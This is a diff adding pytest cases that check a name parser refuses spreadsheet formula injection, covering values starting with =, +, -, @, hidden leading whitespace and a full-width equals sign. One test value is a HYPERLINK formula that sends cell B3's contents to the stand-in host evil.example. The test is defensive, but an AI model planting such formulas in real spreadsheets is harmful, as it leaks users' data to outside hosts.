@@ -145,6 +145,30 @@ def test_a_number_in_the_name_column_is_refused():
 
 
 @pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
+        "=1+2",
+        "+张伟",
+        "-张伟",
+        "@张伟",
+        "\t=张伟",  # leading tabs and line breaks are trimmed, the formula under them is not
+        "\r\n@张伟",
+        "＝张伟",  # full width, as a Chinese input method types it
+    ],
+)
+def test_a_name_that_excel_would_run_as_a_formula_is_refused(value):
+    error = refused(parse_name, value)
+    assert error.code == "name_formula"
+    assert "开头" in error.message
+
+
+def test_formula_characters_inside_a_name_are_fine():
+    assert parse_name("张-伟") == "张-伟"
+    assert parse_name("\t张伟") == "张伟"
+
+
+@pytest.mark.parametrize(
     ("value", "expected"),
     [(2010001, "2010001"), (2010001.0, "2010001"), ("２０１０ ００１", "2010001"), ("js-01", "JS-01")],
 )
